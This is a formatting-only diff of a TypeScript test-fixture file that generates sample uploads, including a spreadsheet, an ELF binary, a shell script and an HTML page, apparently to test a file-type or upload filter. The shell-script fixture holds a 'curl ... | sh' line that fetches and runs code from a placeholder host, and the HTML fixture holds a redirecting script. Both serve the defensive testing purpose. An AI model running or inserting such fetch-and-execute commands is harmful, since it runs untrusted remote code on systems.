@@ -61,7 +61,10 @@ export async function realDocx(): Promise<Buffer> {
 
 export async function realXlsx(): Promise<Buffer> {
   const workbook = new ExcelJS.Workbook();
-  workbook.addWorksheet('Бюджет').addRows([['Статья', 'Сумма'], ['Аренда', 300000]]);
+  workbook.addWorksheet('Бюджет').addRows([
+    ['Статья', 'Сумма'],
+    ['Аренда', 300000],
+  ]);
   return Buffer.from(await workbook.xlsx.writeBuffer());
 }
 
@@ -133,10 +136,16 @@ export function elfExecutable(): Buffer {
 
 export const shellScript = (): Buffer => Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
 export const htmlPage = (): Buffer =>
-  Buffer.from('<!DOCTYPE html><html><body><script>document.location="https://example.invalid/"</script></body></html>\n');
+  Buffer.from(
+    '<!DOCTYPE html><html><body><script>document.location="https://example.invalid/"</script></body></html>\n',
+  );
 
 /** A stream of `head` followed by zeros up to `total` bytes, counting how much was pulled. */
-export function meteredSource(head: Buffer, total: number, chunk = 16 * 1024): { stream: Readable; pulled: () => number } {
+export function meteredSource(
+  head: Buffer,
+  total: number,
+  chunk = 16 * 1024,
+): { stream: Readable; pulled: () => number } {
   let pulled = 0;
   async function* generate(): AsyncGenerator<Buffer> {
     pulled += head.length;
